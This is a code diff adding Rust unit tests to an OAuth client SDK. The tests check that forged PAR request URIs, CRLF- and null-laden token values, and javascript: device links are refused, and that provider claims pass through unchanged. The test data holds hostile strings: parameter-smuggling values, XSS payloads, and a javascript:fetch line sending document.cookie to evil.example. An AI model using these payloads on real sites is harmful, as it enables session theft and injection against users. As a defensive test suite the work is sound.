@@ -883,6 +883,25 @@ fn par_pushes_the_request_and_sends_only_client_id_and_request_uri() {
 }
 
 #[test]
+fn a_par_request_uri_stays_one_parameter_of_the_navigation() {
+    let mut o = options();
+    o.use_par = Some(true);
+    let h = harness_with(o);
+    let forged = "urn:x&prompt=none&redirect_uri=https://evil.example/#frag";
+    h.http.answer_at(
+        "https://auth.example/api/v1/oauth/par",
+        201,
+        &format!(r#"{{"request_uri":"{forged}","expires_in":600}}"#),
+    );
+    let url = block_on(h.client.start_login(&LoginRequest::default(), None)).unwrap();
+    assert!(url.starts_with("https://auth.example/auth/authorize?client_id="));
+    let params = query_pairs(&url);
+    assert_eq!(params.len(), 2, "{url}");
+    assert_eq!(find(&params, "request_uri"), Some(forged));
+    assert!(url::Url::parse(&url).unwrap().fragment().is_none());
+}
+
+#[test]
 fn par_failure_stores_no_pending_login() {
     let mut o = options();
     o.use_par = Some(true);
@@ -951,6 +970,68 @@ fn userinfo_must_be_about_the_signed_in_user() {
         block_on(h.client.userinfo()).unwrap_err().code(),
         "invalid_response"
     );
+}
+
+#[test]
+fn a_token_answer_whose_tokens_or_scope_break_their_grammar_stores_nothing() {
+    for (member, value) in [
+        ("access_token", "AT\\r\\nX-Injected: 1"),
+        ("refresh_token", "RT\\u0000"),
+        ("scope", "openid\\nprofile"),
+    ] {
+        let h = harness();
+        let (_, state, nonce) = start(&h);
+        let body = token_body(&good_id_token(&nonce));
+        let mut json: serde_json::Value = serde_json::from_str(&body).unwrap();
+        json[member] = serde_json::from_str(&format!("\"{value}\"")).unwrap();
+        h.http.answer(200, &json.to_string());
+        let e = callback(&h, &format!("{REDIRECT}?code=C1&state={state}")).unwrap_err();
+        assert_eq!(e.code(), "invalid_response", "{member}");
+        assert!(h.client.tokens().is_none());
+    }
+}
+
+#[test]
+fn a_device_answer_with_a_script_link_is_refused_before_the_app_sees_it() {
+    for (from, to) in [
+        ("https://auth.example/sc", "javascript:alert(1)"),
+        (
+            "https://auth.example/auth/device?code=ABC123",
+            "javascript:fetch('//evil.example/'+document.cookie)",
+        ),
+    ] {
+        let h = harness();
+        h.http
+            .answer_at(DEVICE_URL, 200, &DEVICE_BODY.replacen(from, to, 1));
+        let e = block_on(h.client.start_device_authorization(None)).unwrap_err();
+        assert_eq!(e.code(), "invalid_response", "{to}");
+    }
+}
+
+#[test]
+fn claims_and_userinfo_reach_the_app_as_the_provider_signed_or_sent_them() {
+    // Beyond the members the SDK checks, claims are the provider's
+    // statements, handed over untouched: the SDK makes no link, navigation
+    // or timer of them. An app that shows `picture` or `website` as a link
+    // checks its scheme itself (tests/BAD_INPUTS.md, "Provider values").
+    let h = harness();
+    let (_, state, nonce) = start(&h);
+    let claims = claims_at(&nonce, NOW / 1000).replace(
+        "\"nonce\"",
+        r#""picture":"javascript:alert(1)","name":"<img src=x onerror=alert(1)>","nonce""#,
+    );
+    h.http.answer(200, &token_body(&id_token(&claims)));
+    callback(&h, &format!("{REDIRECT}?code=C1&state={state}")).unwrap();
+    let read = h.client.id_token_claims().unwrap();
+    assert_eq!(read["picture"], "javascript:alert(1)");
+    assert_eq!(read["name"], "<img src=x onerror=alert(1)>");
+    h.http.answer_at(
+        USERINFO_URL,
+        200,
+        r#"{"sub":"urn:xeonr:user:alice","website":"javascript:alert(1)"}"#,
+    );
+    let info = block_on(h.client.userinfo()).unwrap();
+    assert_eq!(info["website"], "javascript:alert(1)");
 }
 
 #[test]
